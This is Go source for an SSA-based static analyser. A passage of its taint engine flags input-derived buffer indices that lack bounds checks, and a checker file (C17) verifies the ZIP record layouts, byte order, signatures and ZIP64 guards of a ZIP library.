			if ifi, ok := hb.Instrs[len(hb.Instrs)-1].(*ssa.If); ok {
				if _, isCall := ifi.Cond.(*ssa.Call); !isCall {
					inner = append(inner, condCompares(ifi.Cond)...)
				}
			}
		}
		seenBo := map[*ssa.BinOp]bool{}
		for _, bo := range inner {
			if !seenBo[bo] {
				seenBo[bo] = true
				out = append(out, &ssa.BinOp{Op: bo.Op, X: subst(bo.X), Y: subst(bo.Y)})
			}
		}
		return out
	}
	if _, ok := cond.(*ssa.Phi); ok {
		seen := map[*ssa.BinOp]bool{}
		for _, truth := range []bool{true, false} {
			for _, f := range factsOf(cond, truth) {
				v := f.V
				for {
					if u, ok := v.(*ssa.UnOp); ok && u.Op == token.NOT {
						v = u.X
						continue
					}
					break
				}
				if bo, ok := v.(*ssa.BinOp); ok && !seen[bo] {
					seen[bo] = true
					out = append(out, bo)
				}
			}
		}
	}
	return out
}

// arithDependsOn: like dependsOn, but only through arithmetic (conversions, binary and unary
// operators, phis): the value itself, not the buffers and calls it was read through.
func arithDependsOn(v ssa.Value, pred func(ssa.Value) bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) bool
	walk = func(v ssa.Value, d int) bool {
		if v == nil || seen[v] || d > 30 {
			return false
		}
		seen[v] = true
		if pred(v) {
			return true
		}
		switch x := v.(type) {
		case *ssa.Convert:
			return walk(x.X, d+1)
		case *ssa.ChangeType:
			return walk(x.X, d+1)
		case *ssa.BinOp:
			return walk(x.X, d+1) || walk(x.Y, d+1)
		case *ssa.UnOp:
			if x.Op != token.MUL {
				return walk(x.X, d+1)
			}
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e, d+1) {
					return true
				}
			}
		}
		return false
	}
	return walk(v, 0)
}

// wireKeyOf extracts "pkg.Type.field" from a label's origin text.
func wireKeyOf(origin string) string {
	origin = strings.TrimPrefix(origin, "shift by ")
	if i := strings.Index(origin, " ("); i > 0 {
		return origin[:i]
	}
	return ""
}

// wireCheckedFields: wire fields that a function which decodes the record bounds from above (directly
// or through a validating call). Existence in the decoder is enough here: the rule then trusts that field wherever it is used
// as a position in a buffer of variable size.
func (t *taintEngine) wireCheckedFields() map[string]bool {
	if t.wireChecked != nil {
		return t.wireChecked
	}
	t.wireChecked = map[string]bool{}
	p := t.p
	for _, fn := range p.Funcs {
		// candidate values: loads of wire fields in this function
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				v, ok := in.(ssa.Value)
				if !ok || intWidth(v.Type()) == 0 {
					continue
				}
				o, _, isW := t.isWireField(v)
				if !isW {
					continue
				}
				key := wireKeyOf(o)
				if key == "" || t.wireChecked[key] {
					continue
				}
				// only where the record is decoded: a comparison somewhere else says nothing about
				// the value other users of the record see
				if i := strings.LastIndex(key, "."); i < 0 || !t.wireDecoders[key[:i]][fn] {
					continue
				}
				g := map[ssa.Value]bool{v: true}
				if len(t.indexGuards(fn, g, nil, idxOpts{}, 0)) > 0 {
					t.wireChecked[key] = true
				}
			}
		}
	}
	return t.wireChecked
}

// bufferSize: the value(s) the indexed buffer was created with, when it was created here.
func bufferSizeGroup(t *taintEngine, x ssa.Value) map[ssa.Value]bool {
	leaves := map[ssa.Value]bool{}
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int)
	walk = func(v ssa.Value, d int) {
		if v == nil || seen[v] || d > 12 {
			return
		}
		seen[v] = true
		switch y := v.(type) {
		case *ssa.Slice:
			walk(y.X, d+1)
		case *ssa.Phi:
			for _, e := range y.Edges {
				walk(e, d+1)
			}
		default:
			leaves[v] = true
		}
	}
	walk(x, 0)
	if len(leaves) != 1 {
		return nil
	}
	for leaf := range leaves {
		switch y := leaf.(type) {
		case *ssa.MakeSlice:
			g, _ := t.derivGroup(y.Len)
			g[y.Len] = true
			return g
		case *ssa.Extract:
			if call, ok := y.Tuple.(*ssa.Call); ok && t.p.calleeName(call.Common()) == "(*bufio.Reader).Peek" && y.Index == 0 {
				g, _ := t.derivGroup(call.Call.Args[1])
				g[call.Call.Args[1]] = true
				return g
			}
		}
	}
	return nil
}

// scanIndex examines every index and slice bound of the module: a position computed from a
// value decoded from input must be bounded from above on every path before it is used.
// Masked or reduced positions (x & k, x % k, x >> k) are bounded by construction; a buffer
// created with a size computed from the same value holds every position up to it.
func (t *taintEngine) scanIndex() []taintFinding {
	p := t.p
	var out []taintFinding
	reduced := func(v ssa.Value) bool {
		for {
			switch x := v.(type) {
			case *ssa.Convert:
				v = x.X
				continue
			case *ssa.ChangeType:
				v = x.X
				continue
			case *ssa.BinOp:
				return x.Op == token.REM || x.Op == token.AND || x.Op == token.SHR
			}
			return false
		}
	}
	checked := t.wireCheckedFields()
	for _, fn := range p.Funcs {
		n := 0
		examine := func(in ssa.Instruction, buf, v ssa.Value, what string) {
			if v == nil {
				return
			}
			if _, ok := v.(*ssa.Const); ok {
				return
			}
			if reduced(v) {
				return
			}
			o := idxOpts{}
			bt := buf.Type().Underlying()
			if pt, ok := bt.(*types.Pointer); ok {
				bt = pt.Elem().Underlying()
			}
			if at, ok := bt.(*types.Array); ok {
				o.arrayLen = at.Len()
			}
			quantity := v
			note := ""
			// a loop counter is as large as the bound it runs to
			if ph, ok := stripConv(v).(*ssa.Phi); ok && o.arrayLen != 0 {
				if bound := loopBoundOf(ph); bound != nil {
					quantity = bound
					note = "loop counter running to "
				}
			}
			ls := t.taint(quantity)
			origin, isSrc := "", false
			for _, l := range ls {
				if l.param >= 0 {
					continue
				}
				if o.arrayLen == 0 && checked[wireKeyOf(l.origin)] {
					continue
				}
				origin, isSrc = l.origin, true
				break
			}
			if !isSrc {
				return
			}
			if o.arrayLen == 0 {
				o.sizeGroup = bufferSizeGroup(t, buf)
				if o.sizeGroup != nil && t.inGroupFn(o.sizeGroup, nil)(quantity) {
					// the buffer was created with (at least) this size
					n++
					if sub := signedDifference(quantity); sub != nil {
						if neg, npath := t.negativeUnchecked(fn, in, quantity, sub); neg {
							out = append(out, taintFinding{Fn: fn, Instr: in, Kind: "index", What: fmt.Sprintf("%s#%d", what, n), Origin: origin + " (a signed difference that is never tested for being negative)", Path: npath, OK: false})
							return
						}
					}
					out = append(out, taintFinding{Fn: fn, Instr: in, Kind: "index", What: fmt.Sprintf("%s#%d", what, n), Origin: origin + " (the buffer was created with a size computed from it)", OK: true})
					return
				}
			}
			n++
			unc, path := t.indexUnchecked(fn, in, quantity, o)
			if !unc {
				// bounded from above. A signed difference of decoded values can also be negative: that needs
				// a test against zero (or of the two operands against each other) of its own.
				if sub := signedDifference(quantity); sub != nil {
					if neg, npath := t.negativeUnchecked(fn, in, quantity, sub); neg {
						out = append(out, taintFinding{Fn: fn, Instr: in, Kind: "index", What: fmt.Sprintf("%s#%d", what, n), Origin: note + origin + " (a signed difference that is never tested for being negative)", Path: npath, OK: false})
						return
					}
				}
			}
			out = append(out, taintFinding{Fn: fn, Instr: in, Kind: "index", What: fmt.Sprintf("%s#%d", what, n), Origin: note + origin, Path: path, OK: !unc})
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.IndexAddr:
					examine(x, x.X, x.Index, "index")
				case *ssa.Index:
					if _, isMap := x.X.Type().Underlying().(*types.Map); !isMap {
						examine(x, x.X, x.Index, "index")
					}
				case *ssa.Slice:
					if _, isStr := x.X.Type().Underlying().(*types.Basic); isStr {
						// strings: same rule
					}
					examine(x, x.X, x.Low, "slice")
					examine(x, x.X, x.High, "slice")
					examine(x, x.X, x.Max, "slice")
				}
			}
		}
	}
	sort.SliceStable(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if p.FName(a.Fn) != p.FName(b.Fn) {
			return p.FName(a.Fn) < p.FName(b.Fn)
		}
		return a.What < b.What
	})
	return out
}

// scanRangeIndex: `for j := range A { ... B[j] ... }` where A is a list decoded from the input and
// B is another slice. The number of elements of A is the attacker's; B has as many elements as it
// has. Unless the two lengths are compared (or B was made with len(A)), B[j] runs off the end.
func (t *taintEngine) scanRangeIndex() []taintFinding {
	p := t.p
	var out []taintFinding
	lenArg := func(v ssa.Value) ssa.Value {
		call, ok := stripConv(v).(*ssa.Call)
		if !ok {
			return nil
		}
		if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
			return call.Call.Args[0]
		}
		return nil
	}
	// the slice a value was loaded from, as (struct type, field) when it is a field
	fieldOf := func(v ssa.Value) (string, string) {
		tn, f, _ := p.fieldLoad(v)
		return strings.TrimPrefix(tn, "*"), f
	}
	// sameList: one SSA value, or two loads of the same field of the same record
	sameList := func(x, y ssa.Value) bool {
		if x == nil || y == nil {
			return false
		}
		if x == y {
			return true
		}
		tx, fx, bx := p.fieldLoad(x)
		ty, fy, by := p.fieldLoad(y)
		return tx != "" && tx == ty && fx == fy && bx != nil && by != nil && cellOf(bx) == cellOf(by)
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ia, ok := in.(*ssa.IndexAddr)
				if !ok {
					continue
				}
				if _, isSlice := ia.X.Type().Underlying().(*types.Slice); !isSlice {
					continue
				}
				// the index is a loop counter (or counter+1, the form range loops take)
				idx := stripConv(ia.Index)
				var ph *ssa.Phi
				switch x := idx.(type) {
				case *ssa.Phi:
					ph = x
				case *ssa.BinOp:
					if x.Op == token.ADD {
						if q, ok := stripConv(x.X).(*ssa.Phi); ok && isIntConst(x.Y, 1) {
							ph = q
						}
					}
				}
				if ph == nil {
					continue
				}
				var bound ssa.Value
				for _, cand := range []ssa.Value{idx, ph} {
					refs := cand.Referrers()
					if refs == nil {
						continue
					}
					for _, r := range *refs {
						bo, ok := r.(*ssa.BinOp)
						if !ok {
							continue
						}
						if (bo.Op == token.LSS || bo.Op == token.LEQ) && bo.X == cand {
							bound = bo.Y
						}
						if (bo.Op == token.GTR || bo.Op == token.GEQ) && bo.Y == cand {
							bound = bo.X
						}
					}
				}
				A := lenArg(bound)
				if A == nil || sameList(A, ia.X) {
					continue
				}
				// A is a list field of a decoded record
				tn, f := fieldOf(A)
				if tn == "" {
					continue
				}
				if _, isWire := t.wire[tn]; !isWire {
					continue
				}
				// B made with len(A)?
				if ms, ok := ia.X.(*ssa.MakeSlice); ok && sameList(lenArg(ms.Len), A) {
					continue
				}
				n++
				key := fmt.Sprintf("range-index#%d", n)
				// a comparison involving len(B) (or the counter against something other than len(A)) dominates?
				guarded := false
				for _, blk := range fn.Blocks {
					if !(blk.Dominates(b)) || blk == b {
						continue
					}
					ifi, ok := blk.Instrs[len(blk.Instrs)-1].(*ssa.If)
					if !ok {
						continue
					}
					bo, ok := ifi.Cond.(*ssa.BinOp)
					if !ok {
						continue
					}
					switch bo.Op {
					case token.LSS, token.LEQ, token.GTR, token.GEQ, token.EQL, token.NEQ:
					default:
						continue
					}
					for _, side := range []ssa.Value{bo.X, bo.Y} {
						if la := lenArg(side); la != nil && sameList(la, ia.X) {
							guarded = true
						}
					}
				}
				out = append(out, taintFinding{Fn: fn, Instr: ia, Kind: "index", What: key, OK: guarded,
					Origin: fmt.Sprintf("the number of %s.%s entries in the decoded input", tn, f)})
			}
		}
	}
	sort.SliceStable(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if p.FName(a.Fn) != p.FName(b.Fn) {
			return p.FName(a.Fn) < p.FName(b.Fn)
		}
		return a.What < b.What
	})
	return out
}

// loopBoundOf: ph is a counter (one constant edge, one edge ph+k); returns the value it is compared
// with by the loop condition.
func loopBoundOf(ph *ssa.Phi) ssa.Value {
	counter := false
	for _, e := range ph.Edges {
		if bo, ok := stripConv(e).(*ssa.BinOp); ok && bo.Op == token.ADD && (stripConv(bo.X) == ssa.Value(ph) || stripConv(bo.Y) == ssa.Value(ph)) {
			counter = true
		}
	}
	if !counter || ph.Referrers() == nil {
		return nil
	}
	for _, r := range *ph.Referrers() {
		bo, ok := r.(*ssa.BinOp)
		if !ok {
			continue
		}
		switch bo.Op {
		case token.LSS, token.LEQ:
			if bo.X == ssa.Value(ph) {
				return bo.Y
			}
		case token.GTR, token.GEQ:
			if bo.Y == ssa.Value(ph) {
				return bo.X
			}
		}
	}
	return nil
}

// signedDifference: the position is (derived from) x - y on a signed type with a non-constant y.
func signedDifference(v ssa.Value) *ssa.BinOp {
	seen := map[ssa.Value]bool{}
	var found *ssa.BinOp
	var walk func(v ssa.Value, d int)
	walk = func(v ssa.Value, d int) {
		if v == nil || seen[v] || d > 10 || found != nil {
			return
		}
		seen[v] = true
		switch x := v.(type) {
		case *ssa.Convert:
			walk(x.X, d+1)
		case *ssa.ChangeType:
			walk(x.X, d+1)
		case *ssa.Phi:
			for _, e := range x.Edges {
				walk(e, d+1)
			}
		case *ssa.UnOp:
			if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
				for _, ref := range *a.Referrers() {
					if st, ok := ref.(*ssa.Store); ok && st.Addr == a {
						walk(st.Val, d+1)
					}
				}
			}
		case *ssa.BinOp:
			if x.Op == token.SUB {
				if _, isK := x.Y.(*ssa.Const); !isK {
					if b, ok := x.Type().Underlying().(*types.Basic); ok && b.Info()&types.IsUnsigned == 0 {
						found = x
						return
					}
				}
			}
			if x.Op == token.ADD || x.Op == token.SUB {
				walk(x.X, d+1)
				walk(x.Y, d+1)
			}
		case *ssa.Call:
			if bi, ok := x.Call.Value.(*ssa.Builtin); ok && (bi.Name() == "min" || bi.Name() == "max") {
				for _, a := range x.Call.Args {
					walk(a, d+1)
				}
			}
		}
	}
	walk(v, 0)
	return found
}

// negativeUnchecked: can the sink be reached without a comparison of the difference (or a value
// computed from it) with a constant, or of its two operands with each other?
func (t *taintEngine) negativeUnchecked(fn *ssa.Function, sink ssa.Instruction, v ssa.Value, sub *ssa.BinOp) (bool, []string) {
	g, keys := t.derivGroup(v)
	g[sub] = true
	inGroup := t.inGroupFn(g, keys)
	gx, kx := t.derivGroup(sub.X)
	gx[sub.X] = true
	gy, ky := t.derivGroup(sub.Y)
	gy[sub.Y] = true
	inX, inY := t.inGroupFn(gx, kx), t.inGroupFn(gy, ky)
	del := map[edge]bool{}
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok || b == sink.Block() {
			continue
		}
		guard := false
		for _, bo := range condCompares(ifi.Cond) {
			switch bo.Op {
			case token.LSS, token.LEQ, token.GTR, token.GEQ:
			default:
				continue
			}
			if k, isK := constInt(bo.Y); isK && k <= 0 && inGroup(bo.X) {
				guard = true
			}
			if k, isK := constInt(bo.X); isK && k <= 0 && inGroup(bo.Y) {
				guard = true
			}
			if (inX(bo.X) && inY(bo.Y)) || (inY(bo.X) && inX(bo.Y)) {
				guard = true
			}
		}
		if guard {
			for si := range b.Succs {
				del[edge{b.Index, si}] = true
			}
		}
	}
	pred := map[int]int{}
	seen := reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, del, pred)
	if seen[sink.Block().Index] {
		return true, t.p.witness(fn, pred, sink.Block().Index)
	}
	return false, nil
}
