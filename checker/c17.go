package main

// C17 — relic reads and rewrites ZIP structures exactly as standard readers see them.
//
// Agreement with reference readers on real archives is behavioural and not decided here.
// What is decided is the part of it that is visible in the shape of lib/zipslicer: the
// record layouts, the length constants every offset computation uses, the signature
// constants, the order of the end-of-directory records, and the guards in front of every
// narrowing of a 64-bit size/offset/count into a 32/16-bit record field.

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C17",
		Meta: propMeta{
			Explanation: "Decides structural necessary conditions of ZIP agreement inside lib/zipslicer (nothing is executed): (R17a) for each of the 8 on-disk record structs the size encoding/binary gives it (sum of its fixed-width fields) equals the length constant the package uses to slice and seek for it (frozen pairing, e.g. zipLocalHeader<->fileHeaderLen=30), every struct that reaches binary.Read/Write in the package is in that pairing, and wherever records are decoded from a buffer of constant length the buffer is exactly as long as the records read from it (binary.Read errors are discarded there, a short buffer would silently yield zero fields); (R17b) every binary.Read/Write and ByteOrder call of the package is little-endian; (R17c) signature constants: every struct-signature comparison and every raw 4-byte comparison uses a constant that some writer stores into that record type, one constant per type, distinct between types except the two descriptor widths; (R17d) the three end-of-directory records are written and read in the on-disk order zip64End, zip64Loc, zipEndRecord, a ZIP64 end record is never written without its locator, and every writer's success paths end with the end record unless the caller asked for entries only; (R17e) a record is serialised only with its signature set: built in the function with the constant, or copied from a parsed directory behind a Signature!=0 test / a successful readLocalHeader / a receiver that every module caller obtained from the parser; (R17f) every conversion of a 64-bit size, offset or count to a 32/16-bit record field is preceded on every path by a comparison of that quantity (the ZIP64 threshold test) or overwritten by the sentinel on the path that skipped it; (R17g) data-position arithmetic adds exactly the local-header size to the name and extra lengths, and directory-entry arithmetic exactly the central-header size; (R17h) an io.Writer/io.Reader parameter that the function itself compares with nil is never used on a path where it can be nil; (R17i) in NewFile, on every path from a site that copies the raw contents into the member the recorded method is Store, and from the site that deflates them it is Deflate (phi-resolved along each path); (R17j) single-pass discipline in every module function: after a member's data descriptor or total size has been queried (GetTotalSize, GetDataDescriptor, Directory.AddFile) nothing opens, digests, dumps or hands that member to a MangleFunc callback within the same iteration; (R17k) a 32-bit size/offset field of a ZIP record is compared with a 64-bit value only behind a test of that field against 0xffffffff (zero instances today; positive control testdata/ctl/zipctl); (R17l) NewFile writes the 64-bit data descriptor for members of every size, so it must mark them (version needed 45) and readDataDesc must consult that mark when choosing the layout; (R17m) File.raw, the cache of an entry's original bytes that copies of a File share with the source directory, is never written through (no element store, PutUintN or copy into it outside the function that allocates it). (R17n) ZipToTarSize writes zipdir.bin with the length X - dirLoc and contents.zip with the same X, so both end at one offset; (R17o) FindDirectory reads the ZIP64 end record only behind a test that a field of the classic end record is saturated; (R17p) no function reachable from GetOriginalDirectory stores into a field of the Directory it was given. (R17s) no ReadAt method of the module returns the count of a single, unlooped Read of a stream into its buffer; (R17t) no append in lib/zipslicer has as its first argument a field that some function fills with a two-index slice of another buffer (name, extra, comment: views into the directory); (R17u) no addition or multiplication of two non-constant 8- or 16-bit unsigned values is converted to a wider type afterwards. (R17v) the Directory an APK digest keeps for its signing step has every override of DirLoc undone (a value read before the override stored back) on every path to a successful return, and is not a helper-made copy whose DirLoc was overridden. (R17q) the value Truncate stores into an end record's CDOffset does not pass through a phi that merges the sides of a nil test of the optional body writer; (R17r) readLocalHeader fills lfhName and lfhExtra with buffers sized by the local header's own FilenameLen / ExtraLen, never with the central directory's Name / Extra.",
			NotDecided:  "agreement of member lists, CRCs and decompressed contents with archive/zip or Python zipfile on real archives; the descriptor-width inference of readDataDesc on third-party archives (R17l only decides that relic can tell the layouts of what it writes itself apart); byte-exact re-emission; name/extra/comment lengths above 65535 in NewFile (caller-supplied, conversions from len() are exempt from R17f).",
			Assumptions: []string{"encoding/binary encodes fixed-size structs field by field without padding", "reader implementations passed to zipslicer return data or an error (io contracts)"},
		},
		Run: runC17,
	})
}

// c17SizeTable: record struct -> (length constant, adjustment). Confirmed by reading
// lib/zipslicer/structs.go against APPNOTE.TXT 4.3.7-4.3.16 / 4.5.3.
var c17SizeTable = map[string]struct {
	konst string
	adj   int64
	why   string
}{
	"lib/zipslicer.zipLocalHeader": {"fileHeaderLen", 0, "local file header"},
	"lib/zipslicer.zipCentralDir":  {"directoryHeaderLen", 0, "central directory header"},
	"lib/zipslicer.zipEndRecord":   {"directoryEndLen", 0, "end of central directory"},
	"lib/zipslicer.zip64Loc":       {"directory64LocLen", 0, "zip64 end of central directory locator"},
	"lib/zipslicer.zip64End":       {"directory64EndLen", 0, "zip64 end of central directory"},
	"lib/zipslicer.zipDataDesc":    {"dataDescriptorLen", 0, "data descriptor, 32-bit sizes"},
	"lib/zipslicer.zipDataDesc64":  {"dataDescriptor64Len", 0, "data descriptor, 64-bit sizes"},
	"lib/zipslicer.zip64Extra":     {"zip64ExtraLen", 4, "zip64 extra field: RecordSize counts the payload after the 4-byte tag+size"},
}

// wireSize: the number of bytes encoding/binary reads or writes for a fixed-size type.
func wireSize(t types.Type) (int64, bool) {
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch u.Kind() {
		case types.Int8, types.Uint8, types.Bool:
			return 1, true
		case types.Int16, types.Uint16:
			return 2, true
		case types.Int32, types.Uint32, types.Float32:
			return 4, true
		case types.Int64, types.Uint64, types.Float64:
			return 8, true
		}
		return 0, false
	case *types.Array:
		n, ok := wireSize(u.Elem())
		return n * u.Len(), ok
	case *types.Struct:
		var sum int64
		for i := 0; i < u.NumFields(); i++ {
			n, ok := wireSize(u.Field(i).Type())
			if !ok {
				return 0, false
			}
			sum += n
		}
		return sum, true
	}
	return 0, false
}

func (p *Prog) pkgConst(rel, name string) (int64, bool) {
	pk := p.Pkg(rel)
	if pk == nil {
		return 0, false
	}
	c, ok := pk.Types.Scope().Lookup(name).(*types.Const)
	if !ok || c.Val().Kind() != constant.Int {
		return 0, false
	}
	return constant.Int64Val(c.Val())
}

// binIO is one encoding/binary.Read or Write call.
type binIO struct {
	Fn     *ssa.Function
	Call   ssa.CallInstruction
	Write  bool
	Type   string     // record type name
	T      types.Type // record type
	Data   ssa.Value  // the data argument, interface conversions stripped
	Stream ssa.Value  // reader / writer argument, conversions stripped
	Order  string
}

func byteOrderName(v ssa.Value) string {
	v = stripConv(v)
	if l, ok := v.(*ssa.UnOp); ok && l.Op == token.MUL {
		if g, ok := l.X.(*ssa.Global); ok && g.Pkg != nil && g.Pkg.Pkg.Path() == "encoding/binary" {
			return g.Name()
		}
	}
	return "?"
}

func (p *Prog) binIOIn(fns []*ssa.Function) (out []binIO) {
	for _, fn := range fns {
		for _, ci := range p.callsIn(fn, "encoding/binary.Read", "encoding/binary.Write") {
			a := ci.Common().Args
			io := binIO{Fn: fn, Call: ci, Write: p.calleeName(ci.Common()) == "encoding/binary.Write", Stream: stripConv(a[0]), Order: byteOrderName(a[1]), Data: stripConv(a[2])}
			ty := io.Data.Type()
			if pt, ok := ty.Underlying().(*types.Pointer); ok {
				ty = pt.Elem()
			}
			io.T = ty
			io.Type = typeName(p, ty)
			out = append(out, io)
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Call.Pos() < out[j].Call.Pos() })
	return
}

func (p *Prog) pkgFuncs(rel string) (out []*ssa.Function) {
	for _, fn := range p.Funcs {
		if pk := pkgOf(fn); pk != nil && p.Rel(pk.Path()) == rel {
			out = append(out, fn)
		}
	}
	sort.Slice(out, func(i, j int) bool { return p.FName(out[i]) < p.FName(out[j]) })
	return
}

// lastStoreBefore: the value most recently stored to the location `load` reads, found by
// walking backwards through the block and then up the dominator tree (nil if none).
func (p *Prog) lastStoreBefore(load *ssa.UnOp) ssa.Value {
	key := p.memKey(load.X)
	if key == "" {
		return nil
	}
	b := load.Block()
	idx := instrIndex(load)
	for b != nil {
		for i := idx - 1; i >= 0; i-- {
			if st, ok := b.Instrs[i].(*ssa.Store); ok && p.memKey(st.Addr) == key && sameBase(st.Addr, load.X) {
				return st.Val
			}
		}
		b = b.Idom()
		if b != nil {
			idx = len(b.Instrs)
		}
	}
	return nil
}

// constLen: the length of a byte slice when it is a compile-time constant.
func (p *Prog) constLen(v ssa.Value, depth int) (int64, bool) {
	if depth > 6 {
		return 0, false
	}
	switch x := v.(type) {
	case *ssa.MakeSlice:
		return constInt(x.Len)
	case *ssa.Slice:
		var lo int64
		if x.Low != nil {
			l, ok := constInt(x.Low)
			if !ok {
				return 0, false
			}
			lo = l
		}
		if x.High != nil {
			h, ok := constInt(x.High)
			if !ok {
				return 0, false
			}
			return h - lo, true
		}
		if pt, ok := x.X.Type().Underlying().(*types.Pointer); ok {
			if at, ok := pt.Elem().Underlying().(*types.Array); ok {
				return at.Len() - lo, true
			}
		}
		n, ok := p.constLen(x.X, depth+1)
		return n - lo, ok
	case *ssa.UnOp:
		if x.Op == token.MUL {
			if sv := p.lastStoreBefore(x); sv != nil {
				return p.constLen(sv, depth+1)
			}
		}
	case *ssa.Phi:
		var n int64
		for i, e := range x.Edges {
			m, ok := p.constLen(e, depth+1)
			if !ok || (i > 0 && m != n) {
				return 0, false
			}
			n = m
		}
		return n, len(x.Edges) > 0
	}
	return 0, false
}

func runC17(c *Ctx) {
	p := c.P
	const rel = "lib/zipslicer"
	c.Rule("R17a", "record struct sizes equal the package's length constants; constant-length decode buffers are exactly as long as the records read from them", 12)
	c.Rule("R17b", "every binary.Read/Write/ByteOrder call in lib/zipslicer is little-endian", 25)
	c.Rule("R17c", "signature constants agree between writers and readers, one per record type", 10)
	c.Rule("R17d", "end-of-directory records keep the on-disk order zip64End, zip64Loc, zipEndRecord; success paths end with the end record", 6)
	c.Rule("R17e", "a record is serialised only with its signature set", 12)
	c.Rule("R17f", "every narrowing of a 64-bit size/offset/count into a record field is guarded by a comparison of that quantity", 8)
	c.Rule("R17g", "offset arithmetic adds exactly the header size to the name/extra(/comment) lengths", 5)
	c.Rule("R17h", "a writer/reader parameter compared with nil is not used where it can be nil", 3)
	c.Rule("R17i", "NewFile records the compression method that produced the member's bytes", 2)
	c.Rule("R17j", "single-pass order: no body read of a member after its descriptor/size query in the same iteration", 6)
	c.Rule("R17k", "a 32-bit record size is compared with a 64-bit size only behind the ZIP64 sentinel test", 0)
	c.Rule("R17l", "the reader tells descriptor layouts apart by a mark the writer sets, not by sizes alone", 2)
	c.Rule("R17m", "the cached original directory entry (File.raw) is never written through, only replaced", 1)

	fns := p.pkgFuncs(rel)
	if len(fns) < 20 {
		c.Undecided("R17a", rel, "-", fmt.Sprintf("only %d functions found in %s", len(fns), rel))
		return
	}
	for _, fn := range fns {
		c.Analysed(p.FName(fn))
	}
	ios := p.binIOIn(fns)

	// ---------------------------------------------------------------- R17a
	seenType := map[string]bool{}
	for _, io := range ios {
		if _, isStruct := io.T.Underlying().(*types.Struct); isStruct {
			seenType[io.Type] = true
		}
	}
	for _, tn := range sortedKeys(seenType) {
		ent, ok := c17SizeTable[tn]
		if !ok {
			c.Undecided("R17a", "size "+tn, "-", "record type reaches encoding/binary but has no length constant in the frozen pairing: add it after reading the format specification")
		}
		_ = ent
	}
	for _, tn := range sortedKeys(c17SizeTable) {
		ent := c17SizeTable[tn]
		name := strings.TrimPrefix(tn, rel+".")
		obj, _ := p.Pkg(rel).Types.Scope().Lookup(name).(*types.TypeName)
		if obj == nil || !seenType[tn] {
			c.Undecided("R17a", "size "+tn, "-", "record type of the frozen pairing not found or no longer serialised: update the table")
			continue
		}
		sz, ok := wireSize(obj.Type())
		kv, ok2 := p.pkgConst(rel, ent.konst)
		if !ok || !ok2 {
			c.Undecided("R17a", "size "+tn, p.Pos(obj.Pos()), "size or constant not computable (non fixed-width field?)")
			continue
		}
		c.Check(sz == kv+ent.adj, "R17a", "size "+tn, p.Pos(obj.Pos()), fmt.Sprintf("%d bytes = %s%+d (%s)", sz, ent.konst, ent.adj, ent.why),
			fmt.Sprintf("%s encodes to %d bytes but %s%+d = %d: every offset computed with the constant is off by %d and every reader of the format disagrees with relic", name, sz, ent.konst, ent.adj, kv+ent.adj, sz-kv-ent.adj))
	}
	// constant-length decode buffers
	type grp struct {
		fn    *ssa.Function
		rd    ssa.Value
		sum   int64
		types []string
		first ssa.CallInstruction
	}
	groups := map[ssa.Value]*grp{}
	var gorder []*grp
	for _, io := range ios {
		if io.Write {
			continue
		}
		g := groups[io.Stream]
		if g == nil {
			g = &grp{fn: io.Fn, rd: io.Stream, first: io.Call}
			groups[io.Stream] = g
			gorder = append(gorder, g)
		}
		n, _ := wireSize(io.T)
		g.sum += n
		g.types = append(g.types, strings.TrimPrefix(io.Type, rel+"."))
	}
	nBuf := map[*ssa.Function]int{}
	for _, g := range gorder {
		call, ok := g.rd.(*ssa.Call)
		if !ok || p.calleeName(call.Common()) != "bytes.NewReader" {
			continue
		}
		n, ok := p.constLen(call.Call.Args[0], 0)
		if !ok {
			// variable-length source (bounds are C11's business): when the same slice is then
			// advanced by a constant, the step must be the size of the record decoded from it
			src := call.Call.Args[0]
			for _, r := range *src.Referrers() {
				sl, isSl := r.(*ssa.Slice)
				if !isSl || sl.X != src || sl.High != nil || sl.Low == nil {
					continue
				}
				if k, isK := constInt(sl.Low); isK && len(g.types) == 1 {
					nBuf[g.fn]++
					key := fmt.Sprintf("%s advance#%d %s", p.FName(g.fn), nBuf[g.fn], g.types[0])
					c.Check(k == g.sum, "R17a", key, p.Pos(sl.Pos()), fmt.Sprintf("slice advanced by %d = size of %s", k, g.types[0]),
						fmt.Sprintf("after decoding a %s (%d bytes) the slice is advanced by %d bytes: every following field is read from the wrong offset", g.types[0], g.sum, k))
				}
			}
			continue
		}
		nBuf[g.fn]++
		key := fmt.Sprintf("%s buffer#%d %s", p.FName(g.fn), nBuf[g.fn], strings.Join(g.types, "+"))
		c.Check(n == g.sum, "R17a", key, p.Pos(g.first.Pos()), fmt.Sprintf("%d-byte buffer decodes %s (%d bytes)", n, strings.Join(g.types, "+"), g.sum),
			fmt.Sprintf("a %d-byte buffer is decoded into %s (%d bytes); the error of binary.Read is discarded here, so a short buffer leaves fields zero and a long one shifts what follows", n, strings.Join(g.types, "+"), g.sum))
	}

	// ---------------------------------------------------------------- R17b
	nOrder := map[*ssa.Function]int{}
	for _, io := range ios {
		nOrder[io.Fn]++
		key := fmt.Sprintf("%s binary-io#%d %s", p.FName(io.Fn), nOrder[io.Fn], strings.TrimPrefix(io.Type, rel+"."))
		c.Check(io.Order == "LittleEndian", "R17b", key, p.Pos(io.Call.Pos()), "LittleEndian", "byte order is "+io.Order+": ZIP is little-endian throughout")
	}
	for _, fn := range fns {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
